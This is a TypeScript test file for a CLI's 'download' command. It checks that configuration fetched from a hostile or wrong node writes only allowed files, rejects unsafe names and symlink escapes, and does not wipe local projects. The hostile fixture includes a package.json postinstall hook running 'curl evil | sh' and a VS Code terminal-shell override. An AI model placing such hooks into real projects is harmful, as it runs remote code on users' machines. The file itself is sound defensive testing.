// download against a hostile or wrong node: only the allowed files, names from validated _ids,
// all-or-nothing, and no wipe of the project from an empty node.
import { existsSync, mkdirSync, readdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { zipSync } from 'fflate';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { JsonObject } from '../../src/sesam/project';
import { startFakeNode, type FakeNode } from './fake-node';
import { cleanupTemp, collect, enrich, metadata, run, system, tempDir, testEnv, writeProject, useInstantSleeps } from './helpers';

let node: FakeNode;
let cwd: string;
let env: Record<string, string>;

useInstantSleeps();
beforeEach(async () => {
  node = await startFakeNode({ config: [metadata, system, collect, enrich], env: testEnv });
  cwd = tempDir();
  env = { NODE: node.url, JWT: node.jwt };
});
afterEach(async () => {
  await node.close();
  cleanupTemp();
});

const json = (value: unknown) => new TextEncoder().encode(JSON.stringify(value));
/** Serves this zip (entries by name) for GET /api/config. */
const serve = (entries: Record<string, unknown>) =>
  node.queue('GET /api/config', { status: 200, body: zipSync(Object.fromEntries(Object.entries(entries).map(([name, value]) => [name, json(value)]))) });
const listAll = (dir: string): string[] =>
  existsSync(dir)
    ? readdirSync(dir, { withFileTypes: true, recursive: true })
        .filter((e) => e.isFile())
        .map((e) => path.relative(dir, path.join(e.parentPath, e.name)))
        .sort()
    : [];

describe('download writes only the allowed files', () => {
  it("package.json, .vscode/, .git/hooks/ and another profile's env file from the node are not written", async () => {
    serve({
      'node-metadata.conf.json': metadata,
      'pipes/poweroffice-customers-collect.conf.json': collect,
      'package.json': { name: 'pwned', scripts: { postinstall: 'curl evil | sh' } },
      '.vscode/settings.json': { 'terminal.integrated.shell.linux': '/tmp/evil' },
      '.git/hooks/pre-commit.json': { x: 1 },
      'prod-env.json': { 'node-env': 'prod', secret: 'x' },
      'unknown/thing.json': { _id: 'thing', type: 'something' },
    });
    const r = await run(['download', '--out', 'snap', '--profile', 'test'], { cwd, env });
    expect(r.code).toBe(0);
    expect(listAll(path.join(cwd, 'snap'))).toEqual(['node-metadata.conf.json', 'pipes/poweroffice-customers-collect.conf.json', 'test-env.json']);
    for (const name of ['package.json', '.vscode/settings.json', '.git/hooks/pre-commit.json', 'prod-env.json', 'unknown/thing.json'])
      expect(r.err).toContain(`skipped zip entry ${JSON.stringify(name)}: not node metadata, a pipe or a system`);
  });

  it('unusable or conflicting names stop the download before anything is written (exit 3, every problem named)', async () => {
    const out = writeProject(cwd, [metadata, collect], { test: testEnv }, 'snap');
    const before = Object.fromEntries(listAll(out).map((f) => [f, readFileSync(path.join(out, f), 'utf8')]));
    serve({
      'node-metadata.conf.json': metadata,
      'pipes/aaa-first.conf.json': { _id: 'aaa-first', type: 'pipe' },
      'pipes/a/b.conf.json': { _id: 'a/b', type: 'pipe' },
      'pipes/nul\u0000x.conf.json': { _id: 'nul\u0000x', type: 'pipe' },
      [`pipes/${'l'.repeat(300)}.conf.json`]: { _id: 'l'.repeat(300), type: 'pipe' },
      'pipes/...conf.json': { _id: '.', type: 'pipe' },
      'pipes/x.conf.json': { _id: 'y', type: 'pipe' },
      'prod-env.json': { _id: 'sneaky', type: 'pipe' },
      'systems/Crm.conf.json': { _id: 'Crm', type: 'system:rest' },
      'systems/crm.conf.json': { _id: 'crm', type: 'system:rest' },
      'pipes/no-id.conf.json': { type: 'pipe' },
    });
    const r = await run(['download', '--out', 'snap'], { cwd, env });
    expect(r.err).toContain('error the node config cannot be written safely (8 problems); nothing was written');
    expect(r.err).toContain('entry pipes/a/b.conf.json: _id a/b cannot be a file name: it contains a path separator');
    expect(r.err).toContain('entry "pipes/nul\\u0000x.conf.json": _id "nul\\u0000x" cannot be a file name: it contains a NUL or control character');
    expect(r.err).toContain('cannot be a file name: it is longer than 200 bytes');
    expect(r.err).toContain('entry pipes/...conf.json: _id . cannot be a file name: it starts with "."');
    expect(r.err).toContain('entry pipes/x.conf.json holds pipe y, whose file is pipes/y.conf.json: conflicting names');
    expect(r.err).toContain('entry prod-env.json holds pipe sneaky, whose file is pipes/sneaky.conf.json: conflicting names');
    expect(r.err).toContain('entries systems/Crm.conf.json and systems/crm.conf.json differ only in letter case');
    expect(r.err).toContain('entry pipes/no-id.conf.json: _id null cannot be a file name: it is empty or not a string');
    expect(r.err).not.toContain('internal error');
    expect(r.code).toBe(3);
    // Nothing changed: not even the valid entry that sorts first.
    expect(Object.fromEntries(listAll(out).map((f) => [f, readFileSync(path.join(out, f), 'utf8')]))).toEqual(before);
  });

  it('--out pointing at a file, or a pipes/ symlink leading out, is refused with nothing written (exit 2)', async () => {
    writeFileSync(path.join(cwd, 'afile'), 'x');
    const file = await run(['download', '--out', 'afile'], { cwd, env });
    expect(file.err).toContain('is a file, not a folder');
    expect(file.code).toBe(2);

    const elsewhere = path.join(cwd, 'elsewhere');
    mkdirSync(elsewhere);
    mkdirSync(path.join(cwd, 'snap'));
    symlinkSync(elsewhere, path.join(cwd, 'snap', 'pipes'));
    const link = await run(['download', '--out', 'snap'], { cwd, env });
    expect(link.err).toMatch(/refusing to write .*snap\/pipes\/[^ ]+\.conf\.json: .*snap\/pipes is a symbolic link that leads outside/);
    expect(link.code).toBe(2);
    expect(readdirSync(elsewhere)).toEqual([]);
    expect(existsSync(path.join(cwd, 'snap', 'test-env.json'))).toBe(false);
  });
});

describe('download never wipes a project from an empty or wrong node', () => {
  const manyPipes = (n: number): JsonObject[] => Array.from({ length: n }, (_, i) => ({ _id: `p${i}`, type: 'pipe', source: { type: 'embedded', entities: [] } }));

  it('a node without pipes is refused (exit 1, nothing written or deleted); --force downloads it', async () => {
    const dir = writeProject(cwd);
    const before = listAll(dir);
    node.config = [metadata];
    const r = await run(['download'], { cwd, env });
    expect(r.err).toContain('error refusing to delete 3 of 3 local pipe and system files: the node has no pipes (an empty or wrong node?); nothing was written');
    expect(r.err).toContain('pass --force');
    expect(r.code).toBe(1);
    expect(listAll(dir)).toEqual(before);

    const forced = await run(['download', '--force'], { cwd, env });
    expect(forced.code).toBe(0);
    expect(listAll(dir)).toEqual(['node-metadata.conf.json', 'test-env.json']);
  });

  it('a node that lacks most local pipes is refused; a small change is not', async () => {
    const dir = writeProject(cwd, [metadata, ...manyPipes(6)]);
    node.config = [metadata, ...manyPipes(2)];
    const r = await run(['download'], { cwd, env });
    expect(r.err).toContain('refusing to delete 4 of 6 local pipe and system files: the node lacks more than 50% of them');
    expect(r.code).toBe(1);
    expect(listAll(path.join(dir, 'pipes'))).toHaveLength(6);
    node.config = [metadata, ...manyPipes(4)];
    expect((await run(['download'], { cwd, env })).code).toBe(0);
    expect(listAll(path.join(dir, 'pipes'))).toHaveLength(4);
  });
});
